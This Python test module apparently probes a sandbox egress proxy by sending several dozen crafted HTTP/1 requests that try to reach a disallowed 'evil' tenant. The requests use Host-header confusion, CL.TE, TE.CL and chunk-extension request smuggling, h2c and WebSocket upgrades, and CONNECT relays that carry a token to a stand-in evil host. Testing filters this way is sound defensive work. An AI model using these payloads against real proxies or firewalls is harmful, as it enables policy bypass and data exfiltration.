"""HTTP/1 that says different things to whom decides and to whom serves. All of it goes to an address that a listed
name shares with another tenant, whose name must not arrive there."""
import base64
import socket
import time

from common import *

RFC9112 = "RFC 9112"
KETTLE = "Kettle: HTTP Desync Attacks (2019)"
RAW = f"shared:80 raw {TENANT}"
GOOD = "shared.example"


def web(id, source, seen=RAW, **more):
    return row(f"http.{id}", source, seen, **more)


def send(text, port=80, address=SHARED):
    tell(address, port, text if isinstance(text, bytes) else text.encode())


@web("host", "anthropics/claude-code#40213 (plain HTTP); agentcage#175 (Host)")
def _():
    """Another tenant as Host."""
    send(get(TENANT))


@web("second_request", f"{RFC9112}, 9.3; connection reuse")
def _():
    """A second request for another tenant on a connection that began with a listed name."""
    with dial(SHARED, 80) as sock:
        sock.sendall(get(GOOD, "first"))
        listen(sock)
        sock.sendall(get(TENANT))
        listen(sock)


@web("pipelined", f"{RFC9112}, 9.3.2")
def _():
    """Two requests in one segment."""
    send(get(GOOD, "first") + get(TENANT))


@web("absolute", f"{RFC9112}, 3.2.2: the target wins over Host")
def _():
    """The other tenant in the target, a listed name as Host."""
    send(f"GET http://{TENANT}/{TOKEN} HTTP/1.1\r\nHost: {GOOD}\r\n\r\n")


@web("absolute_host", f"{RFC9112}, 3.2.2: many servers take Host")
def _():
    """A listed name in the target, the other tenant as Host."""
    send(f"GET http://{GOOD}/{TOKEN} HTTP/1.1\r\nHost: {TENANT}\r\n\r\n")


@web("two_hosts", f"Chen et al.: Host of Troubles (CCS 2016); {RFC9112}, 3.2")
def _():
    """Host twice."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}\r\nHost: {TENANT}\r\n\r\n")


@web("host_list", "Chen et al.: Host of Troubles (CCS 2016)")
def _():
    """Two names in one Host."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}, {TENANT}\r\n\r\n")


@web("fold", f"{RFC9112}, 5.2 (obs-fold); Host of Troubles")
def _():
    """Host on a folded line."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}\r\n {TENANT}\r\n\r\n")


@web("space_before_colon", f"{RFC9112}, 5.1; CVE-2019-16869 (Netty)")
def _():
    """A space before the colon."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}\r\nHost : {TENANT}\r\n\r\n")


@web("leading_space", "Host of Troubles: white space before the first header")
def _():
    """A header that begins with a space."""
    send(f"GET /{TOKEN} HTTP/1.1\r\n Host: {TENANT}\r\nHost: {GOOD}\r\n\r\n")


@web("userinfo", "RFC 3986, 3.2.1; Tsai: A New Era of SSRF (2017)")
def _():
    """A listed name as credentials before the other tenant's."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}@{TENANT}\r\n\r\n")


@web("port_in_host", "Tsai: A New Era of SSRF (2017)")
def _():
    """A listed name with the other tenant behind a colon."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}:80#@{TENANT}\r\n\r\n")


@web("case_and_dot", "normalisation: case and the trailing dot", "shared:80 raw EVIL-Tenant.Example.")
def _():
    """Another tenant's name in other case, with a dot behind it."""
    send(get("EVIL-Tenant.Example."))


@web("nul", "NUL in headers: Host of Troubles (CCS 2016)")
def _():
    """A NUL in the name."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}\0.{TENANT}\r\n\r\n")


@web("bare_lf", "CVE-2025-22871 (Go), CVE-2022-32214 (Node): bare LF")
def _():
    """Lines that end in LF alone."""
    send(f"GET /{TOKEN} HTTP/1.1\nHost: {GOOD}\nHost: {TENANT}\n\n")


@web("bare_cr", "CVE-2023-30589 (llhttp): bare CR")
def _():
    """A carriage return within a line."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nX: a\rHost: {TENANT}\r\nHost: {GOOD}\r\n\r\n")


@web("no_host", "RFC 1945: HTTP/1.0 has no Host", "shared:80 raw")
def _():
    """HTTP/1.0 without Host: the default tenant answers."""
    send(f"GET /{TOKEN} HTTP/1.0\r\n\r\n")


@web("http09", "HTTP/0.9; Kettle: HTTP/1.1 must die (2025)", "shared:80 raw")
def _():
    """A request of one line."""
    send(f"GET /{TOKEN}\r\n")


@web("address_as_host", "raw address; github/gh-aw-firewall tests", "shared:80 raw 203.0.113.20")
def _():
    """An address as Host."""
    send(get(SHARED))


@web("cl_te", KETTLE)
def _():
    """Content-Length and Transfer-Encoding: what follows the last chunk is another request."""
    smuggled = get(TENANT).decode()
    body = "0\r\n\r\n" + smuggled
    send(f"POST /first HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: {len(body)}\r\n"
         f"Transfer-Encoding: chunked\r\n\r\n{body}")


@web("te_cl", KETTLE)
def _():
    """Transfer-Encoding and a short Content-Length: the request is inside a chunk."""
    smuggled = get(TENANT).decode()
    send(f"POST /first HTTP/1.1\r\nHost: {GOOD}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"
         f"{len(smuggled):x}\r\n{smuggled}\r\n0\r\n\r\n")


@web("te_te", KETTLE)
def _():
    """A Transfer-Encoding that only some read as chunked."""
    smuggled = get(TENANT).decode()
    send(f"POST /first HTTP/1.1\r\nHost: {GOOD}\r\nTransfer-Encoding: xchunked\r\nTransfer-Encoding:\x0bchunked\r\n"
         f"Content-Length: {len(smuggled) + 5}\r\n\r\n0\r\n\r\n{smuggled}")


@web("cl_cl", "CVE-2021-40346 (HAProxy); RFC 9112, 6.3")
def _():
    """Two lengths."""
    smuggled = get(TENANT).decode()
    send(f"POST /first HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: 0\r\nContent-Length: {len(smuggled)}\r\n\r\n"
         f"{smuggled}")


@web("cl_plus", "RFC 9110, 8.6: digits only")
def _():
    """A length with a sign, which some read as none."""
    smuggled = get(TENANT).decode()
    send(f"POST /first HTTP/1.1\r\nHost: {GOOD}\r\nContent-Length: +{len(smuggled)}\r\n\r\n{smuggled}")


@web("chunk_extension", "CVE-2025-55315 (Kestrel); valyala/fasthttp#1899")
def _():
    """A line feed inside a chunk's extension."""
    smuggled = get(TENANT).decode()
    send(f"POST /first HTTP/1.1\r\nHost: {GOOD}\r\nTransfer-Encoding: chunked\r\n\r\n"
         f"2;\nxx\r\n2d\r\n0\r\n\r\n{smuggled}")


@web("late_host", "buffers that end before the head does", "shared:80 raw")
def _():
    """Host behind sixty thousand bytes of other headers."""
    padding = "".join(f"X-{number}: {'x' * 1000}\r\n" for number in range(60))
    send(f"GET /{TOKEN} HTTP/1.1\r\n{padding}Host: {TENANT}\r\n\r\n")


@web("split_head", "GoodbyeDPI, zapret: TCP segmentation")
def _():
    """A head in segments of a few bytes."""
    data = get(TENANT)
    with dial(SHARED, 80) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for at in range(0, len(data), 3):
            sock.sendall(data[at:at + 3])
            time.sleep(0.002)
        listen(sock)


@web("upgrade_h2c", "Bishop Fox: h2c smuggling (2020)", "shared:80 raw h2c")
def _():
    """An upgrade to HTTP/2, after which nobody reads along."""
    send(f"GET /{TOKEN} HTTP/1.1\r\nHost: {GOOD}\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
         "Connection: Upgrade, HTTP2-Settings\r\n\r\n")


@web("prior_knowledge", "RFC 9113, 3.3", "shared:80 raw HTTP/2.0")
def _():
    """HTTP/2 in clear text from the first byte."""
    send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" + b"\0\0\x08\6\0\0\0\0\0" + T)


@web("websocket", "Emil Lerner: WebSocket smuggling (2019)", f"shared:80 raw {TENANT}")
def _():
    """A WebSocket to a listed name, and a request for another tenant in it."""
    key = base64.b64encode(b"0123456789abcdef").decode()
    with dial(SHARED, 80) as sock:
        sock.sendall(f"GET /ws HTTP/1.1\r\nHost: {GOOD}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                     f"Sec-WebSocket-Version: 777\r\nSec-WebSocket-Key: {key}\r\n\r\n".encode())
        listen(sock)
        sock.sendall(get(TENANT))
        listen(sock)


@web("connect_relay", "anthropics/claude-code#87381 (relayed CONNECT); corkscrew", "evil:8080 raw")
def _():
    """CONNECT through a listed host that relays."""
    with dial(RELAY, 80) as sock:
        sock.sendall(f"CONNECT {EVIL}:8080 HTTP/1.1\r\nHost: relay.example\r\n\r\n".encode())
        listen(sock)
        sock.sendall(T + b"\n")
        listen(sock)


@web("absolute_relay", "open proxies on listed hosts", "evil:8080 raw")
def _():
    """A listed host asked to fetch from elsewhere."""
    send(f"GET http://{EVIL}:8080/{TOKEN} HTTP/1.1\r\nHost: relay.example\r\n\r\n", address=RELAY)


@web("tls_on_80", "TLS inside plain ports", f"shared:80 tls sni={TENANT}")
def _():
    """TLS on the port for plain HTTP."""
    tls(SHARED, 80, TENANT, get(TENANT))


@row("http.other_port", "github/gh-aw-firewall#207 (CVSS 8.2)", "api:8080 raw")
def _():
    """HTTP to a listed host on a port that is not listed."""
    send(get("api.example"), 8080, API)
